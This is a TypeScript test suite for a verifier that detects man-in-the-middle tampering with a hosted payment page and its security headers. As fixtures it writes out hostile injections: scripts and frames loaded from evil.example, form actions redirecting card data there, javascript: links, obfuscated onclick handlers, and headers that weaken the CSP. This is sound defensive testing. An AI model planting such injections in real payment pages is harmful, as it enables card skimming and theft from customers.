/** What somebody between the gateway and the customer changes in a page is found, each change by itself. */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { pageAssets } from '../../src/payment-page/assets.generated.ts'
import { alsoHeader, header, insertBefore, replace, status } from './changes.ts'
import { type CheckedPage, openCheckedPage } from './checked-page.ts'
import type { Change } from './tampering-proxy.ts'

let page: CheckedPage
beforeAll(async () => {
  page = await openCheckedPage()
})
afterAll(() => page.close())
beforeEach(() => {
  page.proxy.change(null)
  page.proxy.compress(null)
})

const ownScript = pageAssets.testForm.script
const unharmed = "default-src 'none'"

/** With this change on the way, the command fails and prints such a line. */
async function expectFound(change: Change, line: RegExp): Promise<void> {
  page.proxy.change(change)
  const { code, stdout } = await page.verify()
  expect(code).toBe(3)
  expect(
    stdout.split('\n').find((one) => line.test(one)),
    stdout,
  ).toBeDefined()
}

describe('found in the page is', () => {
  it.each<[name: string, change: Change, line: RegExp]>([
    [
      'a script',
      insertBefore('</body>', '<script>steal()</script>'),
      /^Script that is not in the inventory: sha256-.*"steal\(\)"$/,
    ],
    [
      'a script from elsewhere',
      insertBefore('</body>', '<script src="https://evil.example/x.js"></script>'),
      /^Unexpected attribute: .*<script src=/,
    ],
    [
      'no script where there must be one',
      replace(/<script type="module">.*?<\/script>/s, ''),
      /^Script of this page: there is none$/,
    ],
    [
      'the script of another page',
      replace(ownScript, pageAssets.state.script),
      /^Script of another page: sha256-/,
    ],
    ['one byte of the script', replace(ownScript, `${ownScript} `), /^Script that is not in the inventory/],
    ['one byte of the style', replace('box-sizing:', 'box_sizing:'), /^Style that is not from this build/],
    ['a style', insertBefore('</head>', '<style>.pay{display:none}</style>'), /^Unexpected style/],
    [
      'a theme that loads something',
      replace(/(?<=--accent:)[^;]+/g, 'url(x)'),
      /^Style that no merchant can have/,
    ],
    [
      'an event handler',
      replace('<button', '<button onclick="steal()"'),
      /^Event handler: <button onclick="steal\(\)">$/,
    ],
    ['an event handler in capitals', replace('<button', '<button ONCLICK="steal()"'), /^Event handler/],
    ['an event handler behind a slash', replace('<button', '<button/onclick=steal()'), /^Unexpected markup/],
    [
      'an image from elsewhere',
      insertBefore('</main>', '<img src="//evil.example/x.png" alt=""/>'),
      /^URL of another origin: <img src=/,
    ],
    [
      'a frame',
      insertBefore('</main>', '<iframe src="https://evil.example"></iframe>'),
      /^Unexpected element: <iframe>$/,
    ],
    [
      'a form that goes elsewhere',
      replace(/action="[^"]*"/, 'action="https://evil.example/"'),
      /^URL of another origin: <form action=/,
    ],
    [
      'a form that goes to another payment',
      replace(/action="\/hpp\/pay_/, 'action="/hpp/pay_1'),
      /^URL of another origin: <form/,
    ],
    [
      'a button that goes elsewhere',
      replace('<button', '<button formaction="https://evil.example"'),
      /^Unexpected attribute: .*formaction/,
    ],
    [
      'a card form that puts the number into the address',
      replace(
        /(action="[^"]*\/pay\/[^>]*)method="post"|method="post"([^>]*action="[^"]*\/pay\/)/,
        '$1method="get"$2',
      ),
      /^Form that is not sent with POST: <form method="get">$/,
    ],
    [
      'a button that puts the number into the address',
      replace('<button', '<button formmethod="get"'),
      /^Unexpected attribute: .*<button formmethod="get">$/,
    ],
    [
      'a base',
      replace('<head>', '<head><base href="https://evil.example/">'),
      /^Unexpected element: <base>$/,
    ],
    [
      'a refresh',
      replace('<head>', '<head><meta http-equiv="refresh" content="0;url=https://evil.example"/>'),
      /^Unexpected element: <meta http-equiv=/,
    ],
    [
      'a policy that tells others the address',
      replace('<head>', '<head><meta name="referrer" content="unsafe-url"/>'),
      /^Unexpected element: <meta name="referrer">$/,
    ],
    [
      'a preload',
      replace('<head>', '<head><link rel="preload" href="/x"/>'),
      /^Unexpected element: <link rel="preload">$/,
    ],
    [
      'a link that runs a script',
      insertBefore('</main>', '<a href="javascript:steal()">x</a>'),
      /^URL of another origin: <a href=/,
    ],
    [
      'an address with a hidden character',
      insertBefore('</main>', '<a href="/&Tab;x">x</a>'),
      /^Attribute with a hidden character/,
    ],
    [
      'a place for the script to go',
      insertBefore('</main>', '<p data-next="https://evil.example/"></p>'),
      /^URL of another origin: <p data-next=/,
    ],
    [
      'a style attribute',
      replace('<main', '<main style="display:none"'),
      /^Unexpected attribute: .*<main style=/,
    ],
    ['a comment', insertBefore('</body>', '<!-- x -->'), /^Unexpected markup: <!-- x -->/],
    ['markup that browsers repair', insertBefore('</body>', '<p title="a"b>'), /^Unexpected markup/],
    [
      'a drawing that loads something',
      insertBefore('</main>', '<svg><use href="//evil.example/x"/></svg>'),
      /^Unexpected element: <use>$/,
    ],
  ])('%s', (_, change, line) => expectFound(change, line))
})

describe('found in the headers is', () => {
  it.each<[name: string, change: Change, line: RegExp]>([
    [
      'a policy that is missing',
      header('content-security-policy', null),
      /^Header missing: content-security-policy$/,
    ],
    [
      'a policy that allows more',
      header('content-security-policy', unharmed),
      /^Header changed: content-security-policy: without \[script-src/,
    ],
    [
      'a second policy',
      alsoHeader('content-security-policy', unharmed),
      /^Header sent 2 times: content-security-policy$/,
    ],
    [
      'a permission',
      header('permissions-policy', 'camera=*'),
      /^Header changed: permissions-policy: .*with \[camera=\*\]$/,
    ],
    ['a page that may be framed', header('x-frame-options', null), /^Header missing: x-frame-options$/],
    [
      'a page that may be cached',
      header('cache-control', 'public'),
      /^Header changed: cache-control: "public" instead of "no-store"$/,
    ],
    ['another type', header('content-type', 'text/html'), /^Header changed: content-type/],
    [
      'another origin that may read it',
      alsoHeader('access-control-allow-origin', '*'),
      /^Header added: access-control-allow-origin: \*$/,
    ],
    [
      'something that is to be loaded',
      alsoHeader('link', '</x.js>; rel=preload'),
      /^Header added: link: <\/x\.js>/,
    ],
    ['a cookie', alsoHeader('set-cookie', 'a=b'), /^Header added: set-cookie: a=b$/],
    ['a redirect', status(302), /^The response is a redirect \(302\), not a page$/],
  ])('%s', (_, change, line) => expectFound(change, line))
})

describe('nothing is found', () => {
  it.each([null, 'gzip', 'br'] as const)('in a page that nobody changed (%s)', async (encoding) => {
    page.proxy.compress(encoding)
    const { code, stdout, stderr } = await page.verify()
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
    expect(stdout).toMatch(
      /^The page \(status 200, script and style "testForm"\) is as flowlix [\d.]+ sends it\./,
    )
  })

  it('in the page for no payment, which a cron job can always ask for', async () => {
    expect(await page.verify('/hpp/none')).toMatchObject({
      code: 0,
      stdout: expect.stringContaining('status 404'),
    })
  })

  it('in headers that something in front of the gateway is known to add', async () => {
    page.proxy.change(alsoHeader('cf-ray', '1'))
    expect((await page.verify()).stdout).toMatch(/^Header added: cf-ray: 1$/m)
    expect((await page.verify(`/hpp/${page.id}`, '--allow-headers', 'server-timing, CF-Ray')).code).toBe(0)
  })
})
